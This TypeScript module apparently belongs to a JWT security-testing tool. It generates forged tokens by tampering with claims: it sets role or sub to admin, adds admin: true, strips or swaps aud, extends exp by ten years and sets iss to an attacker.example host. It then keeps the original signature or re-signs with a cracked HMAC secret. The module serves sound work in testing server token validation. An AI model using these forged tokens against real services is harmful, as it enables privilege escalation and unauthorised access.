import { removeJsonMember, setJsonMember } from '../json-edit.ts';
import { fail, type Result } from '../result.ts';
import { make, makeAll } from './make.ts';
import type { ForgeContext, ForgedVariant, SourceToken, VariantModule } from './variant.ts';
import type { EncodeSigning } from '../encode.ts';

const TEN_YEARS = 10 * 365 * 24 * 3600;

interface Preset {
  id: string;
  label: (p: Readonly<Record<string, string>>) => string;
  apply: (payload: string, p: Readonly<Record<string, string>>, ctx: ForgeContext) => Result<string>;
}

const str = (v: string) => ({ ok: true as const, value: v });

const PRESETS: readonly Preset[] = [
  {
    id: 'role-admin',
    label: (p) => `role: ${p.value || 'admin'}`,
    apply: (t, p) => str(setJsonMember(t, 'role', JSON.stringify(p.value || 'admin'))),
  },
  { id: 'admin-true', label: () => 'admin: true', apply: (t) => str(setJsonMember(t, 'admin', 'true')) },
  {
    id: 'sub',
    label: (p) => `sub: ${p.value || 'admin'}`,
    apply: (t, p) => str(setJsonMember(t, 'sub', JSON.stringify(p.value || 'admin'))),
  },
  { id: 'aud-remove', label: () => 'aud removed', apply: (t) => str(removeJsonMember(t, 'aud')) },
  {
    id: 'aud-swap',
    label: (p) => `aud: ${p.value || 'https://other-service.example'}`,
    apply: (t, p) => str(setJsonMember(t, 'aud', JSON.stringify(p.value || 'https://other-service.example'))),
  },
  {
    id: 'exp-far',
    label: () => 'exp: ten years from now',
    apply: (t, _p, ctx) =>
      ctx.now === undefined
        ? fail('variant-param', 'exp far in the future needs the current time (ForgeContext.now)')
        : str(setJsonMember(t, 'exp', String(Math.floor(ctx.now) + TEN_YEARS))),
  },
  {
    id: 'iss',
    label: (p) => `iss: ${p.value || 'https://attacker.example'}`,
    apply: (t, p) => str(setJsonMember(t, 'iss', JSON.stringify(p.value || 'https://attacker.example'))),
  },
];

function signings(source: SourceToken, ctx: ForgeContext): { how: string; signing: EncodeSigning }[] {
  const out: { how: string; signing: EncodeSigning }[] = [
    { how: 'original signature', signing: { mode: 'fixed', signature: source.signature, trailingDot: true } },
  ];
  if (ctx.crackedSecret !== undefined && /^HS(256|384|512)$/.test(source.alg))
    out.push({
      how: 're-signed with the found secret',
      signing: {
        mode: 'sign',
        alg: source.alg as 'HS256',
        key: {
          kind: 'secret',
          bytes: new TextEncoder().encode(ctx.crackedSecret),
          label: 'found secret',
          allowEmpty: true,
        },
      },
    });
  return out;
}

/** Claims changed in the payload text (role, admin, sub, aud, exp, iss), everything else byte-identical. */
export const claimTamperVariant: VariantModule = {
  id: 'claim-tamper',
  title: 'Claim tampering',
  tests:
    'Whether the server trusts changed claims without checking the signature (original signature kept), or with a secret an attacker knows.',
  reference: 'RFC 8725 §3.8, §3.9, §3.10',
  params: [
    {
      name: 'preset',
      label: 'Change',
      kind: 'choice',
      choices: [{ value: 'all', label: 'all' }, ...PRESETS.map((p) => ({ value: p.id, label: p.label({}) }))],
      default: 'all',
    },
    { name: 'value', label: 'New value (role, sub, aud, iss)', kind: 'text' },
  ],
  appliesTo: (decoded) => (decoded.kind === 'jws' || decoded.kind === 'unsecured') && decoded.payloadIsJson,
  forge: (source, params, ctx) => {
    const chosen = PRESETS.filter((p) => !params.preset || params.preset === 'all' || params.preset === p.id);
    if (chosen.length === 0)
      return Promise.resolve(fail('variant-param', `unknown preset ${JSON.stringify(params.preset)}`));
    const items: Promise<Result<ForgedVariant>>[] = [];
    for (const p of chosen) {
      const payload = p.apply(source.payloadText, params, ctx);
      if (!payload.ok) {
        if (chosen.length === 1) return Promise.resolve(payload);
        continue;
      }
      if (payload.value === source.payloadText) continue;
      for (const s of signings(source, ctx))
        items.push(
          make('claim-tamper', `${p.label(params)}, ${s.how}`, {
            headerText: source.headerText,
            payloadText: payload.value,
            signing: s.signing,
          }),
        );
    }
    return makeAll(items);
  },
};
